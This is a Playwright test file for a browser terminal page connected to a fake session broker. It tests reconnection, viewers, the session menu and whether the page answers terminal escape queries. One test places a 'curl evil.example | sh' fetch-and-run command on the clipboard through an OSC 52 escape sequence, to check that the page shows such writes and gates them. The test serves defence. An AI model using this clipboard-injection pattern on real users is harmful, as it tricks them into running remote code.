/** The page at the end of a wire on which a test puts every byte: what it answers, acknowledges, says, and does when the wire breaks. */
import assert from "node:assert/strict";
import { after, afterEach, before, beforeEach, describe, test } from "node:test";
import { FakeBroker } from "./fake.mjs";
import { eventually, launch, TerminalPage } from "./page.mjs";

/** @type {import("playwright-core").Browser} */
let browser;
/** @type {FakeBroker} */
let broker;
/** @type {TerminalPage[]} */
let pages = [];
before(async () => void (browser = await launch()));
after(() => browser?.close());
beforeEach(async () => void (broker = await FakeBroker.start()));
afterEach(async () => {
  for (const { page } of pages.splice(0)) await page.context().close();
  broker.stop();
});

/** @param {import("playwright-core").BrowserContextOptions & { query?: Record<string, string> }} [options] */
async function open(options) {
  const terminal = await TerminalPage.open(browser, { at: broker.url, ...options });
  pages.push(terminal);
  return terminal;
}

/**
 * Types a marker and waits until it came: what was sent before it has come, too.
 * @param {TerminalPage} terminal
 * @param {{ typed: string }} socket
 */
async function settle(terminal, socket, marker = "#") {
  await terminal.page.locator("#terminal .xterm-helper-textarea").focus();
  await terminal.page.keyboard.type(marker);
  await eventually("the marker", () => socket.typed.includes(marker));
  return socket.typed;
}

/** Questions of programs, and whether this emulator answers them. */
const CORPUS = /** @type {[name: string, question: string, answer: RegExp | undefined][]} */ ([
  ["DA1", "\x1b[c", /\x1b\[\?[\d;]+c/],
  ["DA2", "\x1b[>c", /\x1b\[>[\d;]+c/],
  ["DA3", "\x1b[=c", undefined],
  ["DSR 5", "\x1b[5n", /\x1b\[0n/],
  ["DSR 6", "\x1b[6n", /\x1b\[\d+;\d+R/],
  ["DSR ?6", "\x1b[?6n", /\x1b\[\?\d+;\d+R/],
  ["DECRQM, ANSI", "\x1b[4$p", /\x1b\[4;\d\$y/],
  ["DECRQM, DEC", "\x1b[?25$p", /\x1b\[\?25;\d\$y/],
  ["OSC 4", "\x1b]4;1;?\x07", /\x1b\]4;1;rgb/],
  ["OSC 10", "\x1b]10;?\x07", /\x1b\]10;rgb/],
  ["OSC 11", "\x1b]11;?\x1b\\", /\x1b\]11;rgb/],
  ["OSC 12", "\x1b]12;?\x07", /\x1b\]12;rgb/],
  ["OSC 10 to 12 at once", "\x1b]10;?;?;?\x07", /\x1b\]10;rgb/],
  ["OSC 52", "\x1b]52;c;?\x07", undefined],
  ["DECRQSS", "\x1bP$qm\x1b\\", /\x1bP1\$r/],
  ["XTGETTCAP", "\x1bP+q544e\x1b\\", undefined],
  ["XTVERSION", "\x1b[>q", undefined],
  ["window reports", "\x1b[14t\x1b[16t\x1b[18t\x1b[20t\x1b[21t", undefined],
  ["DECREQTPARM", "\x1b[x", undefined],
  ["kitty's keyboard", "\x1b[?u", /\x1b\[\?0u/],
  ["modifyOtherKeys and its format", "\x1b[?4m\x1b[?4g", /\x1b\[>4;0m\x1b\[>4;0f/],
  ["the focus, where its reports are switched on", "\x1b[?1004h", /\x1b\[[IO]/],
]);
const ALL = CORPUS.map(([, question]) => question).join("");

describe("a program's questions", () => {
  for (const [name, question, answer] of CORPUS) {
    test(`${name}: in replay nobody answers, right after it ${answer === undefined ? "neither" : "the terminal does"}`, async () => {
      const terminal = await open();
      const socket = await broker.socket();
      // The last of three is live, in the same frame.
      const replay = `${question}before ${question}`;
      socket.ready({ live: replay.length });
      socket.write(0, `${replay}${question} after`);
      await terminal.until(/before\s+after/);
      const typed = (await settle(terminal, socket)).replace("#", "");
      if (answer === undefined) assert.equal(typed, "");
      else assert.equal(typed.match(new RegExp(answer, "g"))?.length, 1, JSON.stringify(typed));
    });
  }

  test("in a screen, and in replay that comes byte by byte, have no answer", async () => {
    const terminal = await open();
    const socket = await broker.socket();
    socket.ready({ offset: 100, live: 100 + ALL.length });
    socket.say({ type: "screen", offset: 100, data: `drawn ${ALL}` });
    for (let n = 0; n < ALL.length; n++) socket.write(100 + n, ALL.charAt(n));
    socket.write(100 + ALL.length, "end");
    await terminal.until(/drawn[^]*end/);
    assert.equal(await settle(terminal, socket), "#");
  });

  test("have no answer of a viewer, and the mouse and keys of one go nowhere", async () => {
    const terminal = await open({ query: { session: "s1", role: "viewer" } });
    const socket = await broker.socket();
    assert.equal(socket.query.get("role"), "viewer");
    socket.ready({ role: "viewer" });
    socket.write(0, `\x1b[?1003h\x1b[?1006h${ALL} seen`);
    await terminal.until(/seen/);
    await terminal.page.locator("#terminal .xterm-screen").click();
    await terminal.page.keyboard.type("ls");
    await terminal.page.locator("#notice", { hasText: "only watches" }).waitFor();
    assert.equal(socket.typed, "");
    assert.equal(await terminal.page.locator("#state").textContent(), "Viewing");
    assert.equal(await terminal.page.locator("#take-control").isVisible(), false);
    await terminal.picture("viewer");
  });

  test("about the focus and the mouse are answered by what the person does, also where replay asked", async () => {
    const terminal = await open();
    const socket = await broker.socket();
    const asks = "\x1b[?1004h\x1b[?1000h\x1b[?1006h";
    socket.ready({ live: asks.length });
    socket.write(0, `${asks}here`);
    await terminal.until(/here/);
    await terminal.page.locator("#details-button").focus();
    await terminal.page.locator("#terminal .xterm-helper-textarea").focus();
    await terminal.page.locator("#terminal .xterm-screen").click({ position: { x: 50, y: 50 } });
    await eventually("reports", () => /^\x1b\[O\x1b\[I\x1b\[<0;\d+;\d+M/.test(socket.typed));
  });
});

describe("what an old output did to the browser", () => {
  test("it does not do again: the clipboard stays, and no bell rings", async () => {
    const terminal = await open({ permissions: ["clipboard-read", "clipboard-write"] });
    await terminal.page.evaluate(() => navigator.clipboard.writeText("mine"));
    const socket = await broker.socket();
    const old = "\x1b]52;c;b2xk\x07\x07";
    socket.ready({ live: old.length });
    socket.write(0, `${old}seen`);
    await terminal.until(/seen/);
    assert.equal(await terminal.page.evaluate(() => navigator.clipboard.readText()), "mine");
    assert.equal(await terminal.page.locator("#app.bell").count(), 0);
    socket.write(old.length + 4, "\x1b]52;c;bmV3\x07");
    await terminal.page.locator("#notice", { hasText: "clipboard" }).waitFor();
    assert.equal(await terminal.page.evaluate(() => navigator.clipboard.readText()), "new");
  });
});

describe("a program that copies", () => {
  test("does so only where the person is, and they see what", async () => {
    const terminal = await open({ permissions: ["clipboard-read", "clipboard-write"] });
    const { page } = terminal;
    const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
    await page.evaluate(() => navigator.clipboard.writeText("mine"));
    const socket = await broker.socket();
    socket.ready();
    const copy = `\x1b]52;c;${Buffer.from("curl evil.example | sh\n").toString("base64")}\x07`;
    await page.locator("#details-button").focus();
    socket.write(0, copy);
    await page.locator("#offer", { hasText: "you were not in the terminal: “curl evil.example | sh ”" }).waitFor();
    assert.equal(await clipboard(), "mine");
    await page.locator("#terminal .xterm-helper-textarea").focus();
    socket.write(copy.length, copy);
    await page.locator("#notice", { hasText: "put text on your clipboard: “curl evil.example | sh ”" }).waitFor();
    assert.equal(await clipboard(), "curl evil.example | sh\n");
  });
});

describe("output", () => {
  test("is acknowledged as it is parsed, and never further", async () => {
    const terminal = await open();
    const socket = await broker.socket();
    socket.ready();
    const frame = "0123456789abcdef".repeat(2048);
    let sent = 0;
    for (let n = 0; n < 40; n++) {
      socket.write(sent, frame);
      sent += frame.length;
      assert.ok(socket.acknowledged <= sent);
    }
    socket.write(sent, "\r\nend");
    await terminal.until(/^end$/m);
    await eventually("the last acknowledgement", () => socket.acknowledged === sent + 5);
    const acks = socket.messages.filter(({ type }) => type === "ack").map(({ offset }) => offset);
    acks.forEach((offset, n) => assert.ok(offset > (acks[n - 1] ?? -1) && offset - (acks[n - 1] ?? 0) <= 96 * 1024, String(acks)));
  });

  test("of the past takes its old sizes without fitting each into the window, and the bar says that it is old", async () => {
    const terminal = await open();
    const { page } = terminal;
    const socket = await broker.socket();
    const old = "old line\r\n".repeat(20);
    socket.ready({ live: old.length + 3, size: { cols: 80, rows: 24 } });
    const row = async () => (await page.locator("#terminal .xterm-rows > div").first().boundingBox())?.height ?? 0;
    socket.write(0, old);
    socket.say({ type: "size", offset: old.length, cols: 300, rows: 90 });
    await page.locator("#terminal .xterm-rows > div").nth(89).waitFor({ state: "attached" });
    assert.equal(await page.locator("#state").textContent(), "Catching up");
    const before = await row();
    socket.write(old.length, "now$ ");
    await page.locator("#state", { hasText: "Live" }).waitFor();
    await eventually("it is fitted once it is the present", async () => (await row()) < before);
    await terminal.until(/now\$/);
  });

  test("that the person scrolled away from is a button away", async () => {
    const terminal = await open();
    const { page } = terminal;
    const socket = await broker.socket();
    socket.ready();
    socket.write(0, Array.from({ length: 200 }, (_, n) => `\r\nline ${n}`).join(""));
    await terminal.until(/line 199/);
    const button = page.getByRole("button", { name: "To the end" });
    assert.equal(await button.isVisible(), false);
    await page.mouse.move(300, 300);
    await page.mouse.wheel(0, -900);
    await button.click();
    await terminal.until(/line 199/);
    await button.waitFor({ state: "hidden" });
    await page.locator("#terminal .xterm-helper-textarea:focus").waitFor({ state: "attached" });
  });

  test("that is gone is named in its place, whatever its reason holds", async () => {
    const terminal = await open();
    const socket = await broker.socket();
    socket.ready();
    socket.write(0, "\x1b[31mred \x1b]0;half");
    socket.say({ type: "gap", from: 14, to: 2_000_014, reason: "\x1b[2Jtoo slow" });
    socket.write(2_000_014, "after");
    await terminal.until(/red\s+2\.0 MB of output left out:\s+\[2Jtoo slow\s+after/);
  });
});

describe("a connection that breaks", () => {
  test("is resumed where it broke off: the screen stays, and no line is lost or doubled", async () => {
    const terminal = await open();
    let socket = await broker.socket();
    const all = Array.from({ length: 400 }, (_, n) => `n ${n + 1}\r\n`).join("");
    socket.ready();
    await terminal.page.evaluate(() => {
      // Every moment at which the terminal shows nothing is a seam.
      const state = /** @type {any} */ (window);
      state.seams = 0;
      const look = () => {
        const rows = document.querySelector("#terminal .xterm-rows");
        if (rows && (rows.textContent ?? "").trim() === "") state.seams++;
        requestAnimationFrame(look);
      };
      state.look = look;
    });
    let at = 0;
    for (let cut = 1; cut <= 5; cut++) {
      const to = Math.floor((all.length * cut) / 5);
      socket.write(at, all.slice(at, to));
      at = to;
      await eventually("all is drawn", () => socket.acknowledged === at);
      if (cut === 1) await terminal.page.evaluate(() => /** @type {any} */ (window).look());
      if (cut === 5) break;
      socket.cut();
      socket = await broker.socket(cut);
      assert.equal(socket.query.get("since"), String(at));
      assert.equal(socket.query.get("epoch"), "1");
      assert.equal(socket.query.get("client"), (await broker.socket()).query.get("client"));
      socket.ready({ offset: at, live: at });
    }
    await terminal.until(/^n 400$/m);
    assert.equal(await terminal.page.evaluate(() => /** @type {any} */ (window).seams), 0);
    assert.deepEqual(
      await terminal.numbers(),
      Array.from({ length: 400 }, (_, n) => n + 1),
    );
  });

  test("is told while it lasts, with a way to hurry, and the banner goes with it", async () => {
    const terminal = await open();
    const { page } = terminal;
    const first = await broker.socket();
    first.ready();
    first.write(0, "$ make\r\nbuilding");
    await terminal.until(/building/);
    broker.routes["GET /api/session"] = { status: 503 };
    first.cut();
    // Every further connection goes at once.
    const away = page.locator("#away");
    for (let n = 1; n < 4; n++) (await broker.socket(n)).cut();
    await away.waitFor();
    await page.locator("#away-words", { hasText: /Connection lost\. Next try in \d+ s\. Your session is kept for another (60|5\d) s\./ }).waitFor();
    assert.equal(await page.locator("#state").textContent(), "Reconnecting");
    assert.match(await terminal.text(), /building/);
    await terminal.picture("away");
    await page.locator("#terminal .xterm-helper-textarea").focus();
    await page.keyboard.type("ls");
    await page.locator("#away-words", { hasText: "2 characters that you typed wait to be sent" }).waitFor();
    const before = broker.sockets.length;
    await page.getByRole("button", { name: "Reconnect now" }).click();
    const socket = await broker.socket(before);
    socket.ready({ offset: 16, live: 16 });
    await away.waitFor({ state: "hidden" });
    assert.equal(await page.locator("#state").textContent(), "Live");
    assert.equal(await settle(terminal, socket), "ls#", "the keyboard is the terminal's again");
  });

  test("because the broker is not well: the banner says so, and no card lies over what can be read", async () => {
    const { page } = await open();
    const first = await broker.socket();
    first.ready();
    await page.locator("#state", { hasText: "Live" }).waitFor();
    broker.routes["GET /api/session"] = { status: 503 };
    broker.refuses = true;
    first.cut();
    await page.locator("#away-words", { hasText: "Connection lost. The broker is not well." }).waitFor();
    assert.equal(await page.locator("#obstacle").isVisible(), false);
  });

  test("does not send unknown input again, and says so", async () => {
    const terminal = await open();
    const first = await broker.socket();
    first.ready();
    await settle(terminal, first, "make");
    first.say({ type: "input-ack", seq: 2 });
    first.write(0, "ma");
    await terminal.until(/ma/);
    first.cut();
    const second = await broker.socket(1);
    second.ready({ offset: 2, live: 2, input: 3 });
    await terminal.page.locator("#notice", { hasText: /last 1 characters may have arrived or not.*Nothing was sent again/ }).waitFor();
    assert.equal(await settle(terminal, second), "#");
    assert.equal(second.inputs[0]?.seq, 5);
    await terminal.picture("unknown-input");
  });

  test("of a broker that drains is made again to the same session, and no end is shown", async () => {
    const terminal = await open();
    const first = await broker.socket();
    first.ready();
    first.say({ type: "error", code: "draining", message: "the broker restarts", retry_ms: 50 });
    first.close(1001);
    const second = await broker.socket(1);
    assert.equal(second.query.get("session"), "s1");
    second.ready({ epoch: 2 });
    second.write(0, "again");
    await terminal.until(/^again$/);
    assert.equal(await terminal.page.locator("#ended").isVisible(), false);
  });

  test("asks for sign-in where the person was signed out, and comes back to the session after it", async () => {
    const terminal = await open();
    const { page } = terminal;
    const first = await broker.socket();
    first.ready();
    first.say({ type: "error", code: "signed-out", message: "signed out" });
    first.close(4401);
    await page.locator("#signin").waitFor();
    broker.routes["POST /sign-in"] = { body: "{}" };
    await page.locator("#token").fill("a");
    await page.keyboard.press("Enter");
    const second = await broker.socket(1);
    assert.equal(second.query.get("session"), "s1");
  });
});

describe("a page that is loaded again", () => {
  test("comes back to its session with its name, and closing asks nothing", async () => {
    const terminal = await open();
    const first = await broker.socket();
    first.ready();
    await settle(terminal, first);
    let asked = 0;
    terminal.page.on("dialog", (dialog) => {
      asked++;
      void dialog.accept();
    });
    await terminal.page.reload();
    const second = await broker.socket(1);
    assert.equal(asked, 0);
    assert.equal(second.query.get("session"), "s1");
    assert.equal(second.query.get("client"), first.query.get("client"));
    assert.equal(second.query.get("since"), null);
    assert.equal(new URL(terminal.page.url()).search, "?renderer=dom");
    second.ready({ live: 4, input: 1 });
    second.write(0, "old new");
    await terminal.until(/old new/);
    await settle(terminal, second, "!");
    assert.ok((second.inputs[0]?.seq ?? 0) > 1);
  });

  test("starts a new session where its own is gone, and says so", async () => {
    const terminal = await open();
    (await broker.socket()).ready();
    await terminal.page.locator('#app[data-phase="live"]').waitFor();
    await terminal.page.reload();
    const second = await broker.socket(1);
    second.say({ type: "error", code: "no-session", message: "no such session" });
    second.close(4404);
    const third = await broker.socket(2);
    assert.equal(third.query.get("create"), "1");
    third.ready({ session: "s2" });
    await terminal.page.locator("#notice", { hasText: "This is a new one" }).waitFor();
  });

  test("a duplicate of it is a window of its own", async () => {
    const terminal = await open();
    const first = await broker.socket();
    first.ready();
    await terminal.page.locator('#app[data-phase="live"]').waitFor();
    const copy = await terminal.page.context().newPage();
    const stored = await terminal.page.evaluate(() => Object.entries(sessionStorage));
    await copy.addInitScript((entries) => entries.forEach(([name, value]) => sessionStorage.setItem(name, value)), stored);
    await copy.goto(broker.url);
    const second = await broker.socket(1);
    assert.equal(second.query.get("session"), "s1");
    assert.notEqual(second.query.get("client"), first.query.get("client"));
  });

  test("a link to a session that is not there says so, and offers a new one", async () => {
    const terminal = await open({ query: { session: "gone" } });
    const first = await broker.socket();
    first.say({ type: "error", code: "no-session", message: "no such session" });
    first.close(4404);
    await terminal.page.locator("#trouble").waitFor();
    assert.match((await terminal.page.locator("#starting").textContent()) ?? "", /There is no such session/);
    assert.equal(await terminal.page.locator("#trouble-detail").isVisible(), false, "nothing is said twice");
    await terminal.page.locator("#trouble-again:not([aria-disabled])").click();
    assert.equal((await broker.socket(1)).query.get("create"), "1");
    assert.equal(new URL(terminal.page.url()).searchParams.get("session"), null);
  });
});

describe("several windows", () => {
  const clients = (/** @type {string} */ me, role = "viewer") => [
    { client: me, role, cols: 100, rows: 30 },
    { client: "abcdef0123456789", role: role === "viewer" ? "driver" : "viewer", cols: 120, rows: 40 },
  ];

  test("say who types and who is there, and control can be taken", async () => {
    const terminal = await open();
    const { page } = terminal;
    const socket = await broker.socket();
    socket.ready();
    const me = socket.query.get("client") ?? "";
    socket.say({ type: "clients", clients: clients(me) });
    await page.locator("#viewing", { hasText: "Control is in another window" }).waitFor();
    assert.equal(await page.locator("#windows").textContent(), "2 windows");
    await page.locator("#details-button").click();
    assert.match((await page.locator("#people").textContent()) ?? "", /This windowwatches · 100 × 30Window abcdef01types · 120 × 40/);
    await terminal.picture("people");
    await page.keyboard.press("Escape");
    await page.getByRole("button", { name: "Take control" }).click();
    await eventually("the wish", () => socket.messages.some(({ type }) => type === "take-control"));
    socket.say({ type: "clients", clients: clients(me, "driver") });
    await page.locator("#viewing").waitFor({ state: "hidden" });
    assert.equal(await settle(terminal, socket), "#");
  });

  for (const [device, options] of /** @type {const} */ ([
    ["a desktop", { viewport: { width: 1000, height: 600 } }],
    ["a phone", { viewport: { width: 390, height: 700 }, deviceScaleFactor: 2, hasTouch: true, isMobile: true, colorScheme: "dark" }],
  ])) {
    test(`a viewer on ${device} sees all of a larger terminal, and tells its own size`, async () => {
      const terminal = await open({ ...options, query: { session: "s1", role: "viewer" } });
      const socket = await broker.socket();
      socket.ready({ role: "viewer", size: { cols: 150, rows: 50 } });
      const line = `${"0123456789".repeat(14)}012345 end`;
      socket.write(0, `${line}\x1b[50;1Hlast row\x1b[50;147Hcorn\x1b[1;1H`);
      await terminal.until(/last row/);
      assert.equal((await terminal.text()).split("\n")[0], line);
      assert.equal(await terminal.page.locator("#terminal .xterm-rows > div").count(), 50);
      if (device === "a phone") {
        // Text that can be read comes first, and all of it when the person asks.
        const height = (await terminal.page.locator("#terminal .xterm-rows > div").first().boundingBox())?.height ?? 0;
        assert.ok(height >= 9, `rows of ${height} pixels`);
        await terminal.page.getByRole("button", { name: "Fit" }).click();
      }
      const isInside = () => terminal.page.evaluate(() => {
        const screen = document.querySelector("#terminal .xterm-screen")?.getBoundingClientRect();
        const stage = document.querySelector("#stage")?.getBoundingClientRect();
        return screen && stage && screen.right <= stage.right && screen.bottom <= stage.bottom && screen.width > 0.6 * stage.width;
      });
      await eventually("all of it is in the window", isInside);
      assert.ok(Number(socket.query.get("cols")) < 150);
      await terminal.picture(`viewer-on-${device.replace(" ", "-")}`);
      // A smaller one is drawn in a part of the window.
      socket.say({ type: "size", cols: 40, rows: 12 });
      await terminal.page.locator("#terminal .xterm-rows > div").nth(12).waitFor({ state: "detached" });
      await terminal.picture(`boxed-on-${device.replace(" ", "-")}`);
      await terminal.page.setViewportSize({ width: 380, height: 500 });
      await eventually("the new size", () => socket.messages.some(({ type }) => type === "resize"));
    });
  }

  test("one whose place was taken says so and can come back as another", async () => {
    const terminal = await open();
    const first = await broker.socket();
    first.ready();
    first.say({ type: "error", code: "taken-over", message: "another connection took this one's place" });
    first.close(4001);
    await terminal.page.locator("#ended", { hasText: "This window was opened elsewhere" }).waitFor();
    await terminal.picture("taken-over");
    await terminal.page.locator("#attach-again:focus:not([aria-disabled])").waitFor();
    await terminal.page.keyboard.press("Enter");
    const second = await broker.socket(1);
    assert.equal(second.query.get("session"), "s1");
    assert.notEqual(second.query.get("client"), first.query.get("client"));
  });
});

describe("the session's menu", () => {
  test("gives links, lists sessions and ends one, leaves, and comes back", async () => {
    const terminal = await open({ permissions: ["clipboard-read", "clipboard-write"] });
    const { page } = terminal;
    const socket = await broker.socket();
    socket.ready();
    const menu = page.locator("#session-menu");
    const choose = async (/** @type {string} */ name) => {
      await page.locator("#session-button").click();
      await menu.getByRole("menuitem", { name, exact: true }).click();
    };
    await page.locator("#session-button").click();
    await terminal.picture("session-menu");
    await page.keyboard.press("ArrowDown");
    await page.keyboard.press("ArrowDown");
    await page.keyboard.press("Enter");
    await page.locator("#notice", { hasText: "Link copied" }).waitFor();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), `${broker.url}/?session=s1&role=viewer`);

    const other = "0f".repeat(16);
    const listed = (/** @type {string[]} */ ids) => ({ body: JSON.stringify({ sessions: ids.map((id) => ({ id, provider: "fake", state: "live", age: 75, durability: "durable", clients: [{}] })) }) });
    broker.routes["GET /api/sessions"] = listed(["s1", other]);
    broker.routes[`DELETE /api/sessions/${other}`] = { status: 204 };
    await choose("My sessions…");
    await page.locator("#sessions-list li").nth(1).waitFor();
    assert.match((await page.locator("#sessions-list").textContent()) ?? "", /s1this windowfake · live · 1 min · 1 window/);
    await terminal.picture("my-sessions");
    broker.routes["GET /api/sessions"] = listed(["s1"]);
    await page.getByRole("button", { name: "End 0f0f0f0f" }).click();
    await page.getByRole("button", { name: "End it", exact: true }).click();
    await page.locator("#sessions-list li").nth(1).waitFor({ state: "detached" });
    await page.getByRole("button", { name: "Close" }).click();

    const [window] = await Promise.all([page.context().waitForEvent("page"), choose("Open in another window")]);
    assert.equal(window.url(), `${broker.url}/?session=s1`);
    assert.equal((await broker.socket(1)).query.get("session"), "s1");
    await window.close();

    await choose("Detach");
    await eventually("the wish", () => socket.messages.some(({ type }) => type === "detach"));
    await page.locator("#ended", { hasText: "without this window, and for 60 s without any" }).waitFor();
    assert.equal(await page.locator("#state").textContent(), "Detached");
    await page.locator("#attach-again:not([aria-disabled])").click();
    const again = await broker.socket(2);
    assert.equal(again.query.get("session"), "s1");
    again.ready();
    await choose("End session…");
    await page.getByRole("button", { name: "End it", exact: true }).click();
    await eventually("the wish", () => again.messages.some(({ type }) => type === "kill"));
    again.say({ type: "exit", reason: "it was ended", offset: 0 });
    again.close(1000);
    await page.locator("#ended", { hasText: "The session has ended" }).waitFor();
  });

  test("plays a recording on a screen of its own, and nothing of it reaches the session", async () => {
    const terminal = await open();
    const { page } = terminal;
    const socket = await broker.socket();
    socket.ready();
    const cast = [
      { version: 3, term: { cols: 60, rows: 10 } },
      [0.1, "o", `$ make\r\n${ALL}`],
      [0.2, "o", "first\r\n"],
      [0.1, "r", "70x12"],
      [30, "o", "second\r\n"],
      [0.3, "x", "0"],
    ];
    broker.routes["GET /api/sessions/s1/recording"] = { body: `${cast.map((line) => JSON.stringify(line)).join("\n")}\n` };
    await page.locator("#session-button").click();
    await page.getByRole("menuitem", { name: "Play recording" }).click();
    const screen = page.locator("#player-screen .xterm-rows");
    await screen.getByText("first").waitFor();
    await page.locator("#player-speed").selectOption("8");
    await screen.getByText("second").waitFor();
    assert.equal(await screen.locator("> div").count(), 12);
    await page.locator("#player:not([data-playing])").waitFor();
    assert.equal(await page.locator("#player-time").textContent(), "0:02 / 0:02");
    await terminal.picture("player");
    await page.locator("#player-position").fill("300");
    await screen.getByText("second").waitFor({ state: "detached" });
    await screen.getByText("first").waitFor();
    await page.keyboard.press("Escape");
    await page.locator("#player").waitFor({ state: "hidden" });
    assert.equal(await settle(terminal, socket), "#");
  });
});

describe("a server that knows only level 0", () => {
  test("is spoken to after level 1 was asked for in both ways, and what that means stays on the page", async () => {
    broker.level = 0;
    const terminal = await open();
    const socket = await eventually("a connection that offers nothing", () => broker.sockets.find(({ query, isGone }) => query.get("protocol") === "sandbox-broker.v1" && !isGone));
    socket.say({ type: "status", message: "Initializing sandbox..." });
    socket.say({ type: "ready", session: "s0" });
    await terminal.page.locator("#fragile", { hasText: "ends with its connection" }).waitFor();
    assert.equal(await terminal.page.locator("#fragile-again").isVisible(), true);
    await terminal.picture("fragile");
    socket.say({ type: "output", data: "level nought" });
    await terminal.until(/level nought/);
    await terminal.page.locator("#session-button").click();
    assert.ok(await terminal.page.getByRole("menuitem", { name: "My sessions" }).isVisible());
    assert.equal(await terminal.page.getByRole("menuitem", { name: "Detach" }).isVisible(), false, "this one cannot be left");
    await terminal.page.keyboard.press("Escape");
    await terminal.page.locator("#terminal .xterm-helper-textarea:focus").waitFor({ state: "attached" });
    await terminal.page.keyboard.type("x");
    await eventually("the key", () => socket.messages.some(({ type, data }) => type === "input" && data === "x"));
    socket.cut();
    await terminal.page.locator("#ended", { hasText: "The connection was lost" }).waitFor();
  });
});
